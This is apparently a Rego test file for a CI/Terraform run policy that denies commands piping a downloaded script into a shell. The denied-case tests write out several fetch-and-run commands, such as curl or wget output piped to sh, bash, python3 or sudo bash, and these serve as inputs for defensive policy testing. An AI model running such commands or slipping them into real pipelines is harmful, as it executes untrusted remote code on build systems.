package hangar.initialization_test

import data.hangar.initialization

run_with(type, phases) := {
	"run": {"id": "01JRUN", "type": type, "commands": [], "phases": phases, "needs_confirmation": false},
	"stack": {"id": "network", "name": "Network", "labels": []},
	"commit": {"sha": "4b825dc", "branch": "main", "message": "Add subnet", "author": "ada"},
	"source": {"url": "", "ref": "", "project_root": ""},
	"runner_image": "registry.example.com/runner:1",
	"environment_variables": [],
	"worker_metadata": {},
	"pool_id": "pool-eu-1",
}

phase(name, before, commands, after) := {"name": name, "before": before, "commands": commands, "after": after}

test_clean_tracked_run_allowed if {
	phases := [
		phase("init", [], ["terraform init"], []),
		phase("plan", ["curl -fsSO https://example.com/plugin.zip"], ["terraform plan"], ["grep -c change plan.txt | tee count"]),
		phase("apply", [], ["terraform apply tfplan"], []),
	]
	count(initialization.deny) == 0 with input as run_with("TRACKED", phases)
}

test_in_an_init_before_hook_denied if {
	phases := [
		phase("init", ["curl -fsSL https://get.example.sh | sh"], ["terraform init"], []),
		phase("plan", [], ["terraform plan"], []),
	]
	initialization.deny == {`before of phase init pipes a download into a shell: "curl -fsSL https://get.example.sh | sh"`} with input as run_with("PROPOSED", phases)
}

test_in_a_plan_after_hook_denied if {
	phases := [phase("plan", [], ["terraform plan"], ["wget -qO- https://x.example/report | /bin/bash -s"])]
	initialization.deny == {`after of phase plan pipes a download into a shell: "wget -qO- https://x.example/report | /bin/bash -s"`} with input as run_with("PROPOSED", phases)
}

test_in_apply_commands_denied if {
	phases := [
		phase("init", [], ["terraform init"], []),
		phase("apply", [], ["terraform apply", "curl https://x.example/post-apply.py | python3"], []),
	]
	count(initialization.deny) == 1 with input as run_with("TRACKED", phases)
}

test_in_a_task_perform_denied if {
	phases := [phase("perform", [], ["curl -s https://x.example/i | sudo -E /usr/bin/bash -s"], [])]
	count(initialization.deny) == 1 with input as run_with("TASK", phases)
}

test_through_env_denied if {
	phases := [phase("perform", [], ["curl -s https://x.example/i | env X=1 sh"], [])]
	count(initialization.deny) == 1 with input as run_with("TASK", phases)
}

test_every_offending_line_reported if {
	phases := [
		phase("init", ["curl a | sh"], [], []),
		phase("perform", [], ["wget -O- b | bash"], ["curl c | sh"]),
	]
	count(initialization.deny) == 3 with input as run_with("TASK", phases)
}
